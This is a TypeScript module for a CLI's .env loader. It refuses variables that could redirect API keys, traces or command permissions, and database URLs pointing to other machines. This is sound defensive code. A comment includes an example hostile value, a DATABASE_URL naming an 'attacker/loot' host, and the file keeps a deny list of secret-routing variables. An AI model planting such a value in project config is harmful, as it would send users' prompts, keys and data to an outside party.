import { existsSync, readFileSync } from 'node:fs';
import { parseEnv } from 'node:util';
import { ConfigError } from '../errors.js';
import { isLoopbackHost } from './isLoopbackHost.js';

/**
 * Variables a `.env` in the working directory may not set: they decide where the API key and
 * trace headers are sent, and whether the model may run commands. cadre is often run inside a
 * repository someone else wrote; its `.env` sending `ANTHROPIC_BASE_URL` elsewhere would hand
 * over the key from your environment with the first model call (a new-user try did exactly
 * that). Set them in the environment itself; there the file is not consulted.
 */
const NOT_FROM_DOT_ENV = [
  'ANTHROPIC_BASE_URL',
  'CADRE_ALLOW_COMMANDS',
  'OTEL_EXPORTER_OTLP_ENDPOINT',
  'OTEL_EXPORTER_OTLP_TRACES_ENDPOINT',
  'OTEL_EXPORTER_OTLP_HEADERS',
  'OTEL_EXPORTER_OTLP_TRACES_HEADERS',
] as const;

/**
 * Variables a `.env` may set only to a server on this machine: where every prompt, reply, file
 * read and tool output is stored. A repository's `.env` naming its own server
 * (`DATABASE_URL=postgres://u:p@attacker/loot`) received the whole store of whoever ran cadre in
 * it, and could feed recovery forged events (an attacker's try). A server elsewhere is named in
 * the environment itself.
 */
const LOCAL_ONLY_FROM_DOT_ENV = ['DATABASE_URL', 'EVENT_STORE'] as const;

/** The hosts a connection string names (`a,b` for a cluster), '' for none (a Unix socket). */
function hostsOf(value: string): string[] {
  const authority = value.replace(/^[a-z][a-z0-9+.-]*:\/\//i, '').split(/[/?#]/)[0]!.replace(/^.*@/, '');
  const socket = /[?&]host=([^&]*)/.exec(value)?.[1];
  if (authority === '' && socket !== undefined) return [decodeURIComponent(socket).startsWith('/') ? '' : decodeURIComponent(socket)];
  return authority.split(',').map((h) => (h.startsWith('[') ? h.slice(0, h.indexOf(']') + 1) : h.split(':')[0]!).toLowerCase());
}

/** Whether `value` (of one of LOCAL_ONLY_FROM_DOT_ENV) names a server on another machine. */
const storesElsewhere = (value: string): boolean => value !== 'postgres' && !value.startsWith('/') && !hostsOf(value).every((h) => h === '' || isLoopbackHost(h));

/**
 * Loads `file` (the CLI's `.env` in the working directory) into `target`: a variable already set
 * there wins, as with Docker and dotenv. Returns the names it set. No file, nothing to do. A
 * file that would set one of `NOT_FROM_DOT_ENV`, or one of `LOCAL_ONLY_FROM_DOT_ENV` to another
 * machine, is refused whole, naming the variable.
 */
export function loadDotEnv(file: string, target: Record<string, string | undefined> = process.env): string[] {
  if (!existsSync(file)) return [];
  let parsed: Record<string, string>;
  try {
    parsed = parseEnv(readFileSync(file, 'utf8')) as Record<string, string>;
  } catch (e) {
    throw new ConfigError('.env', `cannot read ${JSON.stringify(file)}: ${(e as NodeJS.ErrnoException).code ?? (e as Error).message}`);
  }
  const guarded = NOT_FROM_DOT_ENV.find((key) => parsed[key] !== undefined && target[key] === undefined);
  if (guarded) {
    throw new ConfigError(guarded, `${JSON.stringify(file)} sets it, and a .env in the folder cadre runs in may not: it decides where your API key or traces go, or whether the model runs commands. Set ${guarded} in the environment instead, or remove it from that file`);
  }
  const remote = LOCAL_ONLY_FROM_DOT_ENV.find((key) => parsed[key] !== undefined && target[key] === undefined && storesElsewhere(parsed[key]!));
  if (remote) {
    throw new ConfigError(remote, `${JSON.stringify(file)} sets it to a server on another machine, and a .env in the folder cadre runs in may name only this one (localhost, 127.x.x.x, [::1], a socket): it decides where every prompt, reply and tool output is stored. Set ${remote} in the environment instead, or remove it from that file`);
  }
  const set: string[] = [];
  for (const [key, value] of Object.entries(parsed)) {
    if (target[key] !== undefined) continue;
    target[key] = value;
    set.push(key);
  }
  return set;
}
